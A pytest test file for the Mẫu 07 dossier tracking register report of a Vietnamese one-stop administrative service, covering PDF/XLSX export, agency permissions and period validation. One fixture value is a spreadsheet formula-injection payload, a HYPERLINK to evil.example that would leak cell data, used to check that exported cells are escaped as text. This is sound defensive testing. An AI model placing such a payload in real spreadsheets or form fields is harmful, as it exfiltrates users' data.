"""Mẫu 07, the desk's tracking register (sổ theo dõi hồ sơ) for an agency and a period."""

import io
from datetime import datetime

import pypdf
import pytest
from openpyxl import load_workbook

from motcua.core.calendar import LOCAL_TZ
from tests.dossiers.helpers import act, submit
from tests.integrations.helpers import run_effects
from tests.reports.helpers import desk, resolve

URL = "/api/v1/reports/register-07/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NOV = {"from": "2026-11-01", "to": "2026-11-30"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def register(api, clock, procedure, commune, other_commune, receiver, specialist, approver,
             other_receiver):  # fmt: skip
    """In the commune: one dossier returned, one pending, one online not yet received, one
    received in October; in the other commune: one received."""
    clock.set(datetime(2026, 10, 20, 9, tzinfo=LOCAL_TZ))
    october = desk(api, receiver, procedure, commune)
    clock.set(datetime(2026, 11, 16, 8, tzinfo=LOCAL_TZ))
    returned = desk(api, receiver, procedure, commune)
    returned = resolve(api, receiver, specialist, approver, returned)
    returned = act(api(receiver), returned, "return_result")
    pending = desk(api, receiver, procedure, commune, applicant={
        "id_number": "025190009999", "full_name": EVIL, "phone": "+84912000111",
        "address": "@Khu 5",
    })  # fmt: skip
    waiting = submit(api(receiver), procedure, commune, channel="online")
    elsewhere = desk(api, other_receiver, procedure, other_commune)
    run_effects()
    return {"october": october, "returned": returned, "pending": pending, "waiting": waiting,
            "elsewhere": elsewhere}  # fmt: skip


def pdf_text(content: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def test_pdf_lists_every_dossier_received_at_the_desk_in_the_period(api, receiver, commune,
                                                                    register):  # fmt: skip
    response = api(receiver).get(URL, {**NOV, "agency": commune.code, "format": "pdf"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "SỔ THEO DÕI HỒ SƠ" in text
    assert "Từ ngày 01/11/2026 đến ngày 16/11/2026" in text  # the period ends today
    assert "UBND XÃ HY CƯƠNG" in text and "UBND TỈNH PHÚ THỌ" in text
    assert register["returned"]["code"] in text and register["pending"]["code"] in text
    for absent in ("october", "waiting", "elsewhere"):
        assert register[absent]["code"] not in text, absent
    assert "Cơ quan chủ trì giải quyết" in text and "Trả kết quả" in text


def test_xlsx_has_one_line_per_dossier_with_the_columns_of_the_form(api, receiver, commune,
                                                                    register):  # fmt: skip
    response = api(receiver).get(URL, {**NOV, "agency": commune.code, "format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ"
    header = next(i for i, row in enumerate(rows) if row[0] == "STT")
    assert rows[header] == (
        "STT", "Mã hồ sơ", "Tên thủ tục hành chính", "Số lượng hồ sơ (bộ)",
        "Tên người nộp, địa chỉ, số điện thoại", "Cơ quan chủ trì giải quyết",
        "Nhận hồ sơ ngày", "Hẹn trả kết quả ngày", "Chuyển hồ sơ đến cơ quan giải quyết ngày",
        "Trả kết quả trước hạn", "Trả kết quả đúng hạn", "Trả kết quả quá hạn", "Ghi chú",
    )  # fmt: skip
    lines = rows[header + 1 :]
    assert [line[1] for line in lines] == [
        register["returned"]["code"],
        register["pending"]["code"],
    ]
    returned, pending = lines
    assert returned[0] == "1" and returned[3] == "01"
    assert returned[5] == "UBND xã Hy Cương"
    assert "16/11/2026" in returned[6] and "16/11/2026" in returned[8]
    assert "16/11/2026" in returned[9]  # returned the same day: before time
    assert not returned[10] and not returned[11] and not returned[12]
    assert not pending[9] and not pending[10] and not pending[11]
    assert pending[12] == "Đã tiếp nhận"


def test_xlsx_cells_from_user_data_are_text_never_formulas(api, receiver, commune, register):
    response = api(receiver).get(URL, {**NOV, "agency": commune.code, "format": "xlsx"})
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
             for c in row if c.value is not None]  # fmt: skip
    assert all(c.data_type == "s" for c in cells)
    applicant = next(c.value for c in cells if EVIL in str(c.value))
    assert applicant.startswith("'=HYPERLINK(")


@pytest.mark.parametrize("fmt, accept", [("pdf", "application/pdf"), ("xlsx", XLSX),
                                         ("pdf", "*/*"), ("xlsx", "*/*")])  # fmt: skip
def test_a_client_that_asks_for_the_file_type_gets_it(api, receiver, commune, register, fmt,
                                                      accept):  # fmt: skip
    response = api(receiver).get(
        URL, {**NOV, "agency": commune.code, "format": fmt}, HTTP_ACCEPT=accept
    )
    assert response.status_code == 200
    assert response["Content-Type"] == (XLSX if fmt == "xlsx" else "application/pdf")


def test_another_agency_s_register_is_forbidden(api, other_receiver, commune, register):
    response = api(other_receiver).get(URL, {**NOV, "agency": commune.code, "format": "pdf"})
    assert response.status_code == 403
    assert response.json()["code"] == "forbidden"


def test_without_an_agency_it_is_the_officer_s_own_desk(api, other_receiver, register):
    response = api(other_receiver).get(URL, {**NOV, "format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert register["elsewhere"]["code"] in [row[1] for row in rows]
    assert register["returned"]["code"] not in [row[1] for row in rows]


@pytest.mark.parametrize(
    "period, status, code",
    [
        ({"from": "2026-13-01"}, 400, "invalid_period"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, 400, "invalid_period"),
        ({"from": "2025-01-01", "to": "2026-11-30"}, 422, "period_too_long"),
        ({**NOV, "format": "docx"}, 400, "invalid_format"),
    ],
)
def test_bad_requests_are_refused(api, receiver, commune, register, period, status, code):
    response = api(receiver).get(URL, {"format": "pdf", "agency": commune.code, **period})
    assert response.status_code == status
    assert response.json()["code"] == code


def test_a_login_is_needed(api, commune, register):
    assert api().get(URL, {**NOV, "format": "pdf"}).status_code == 401
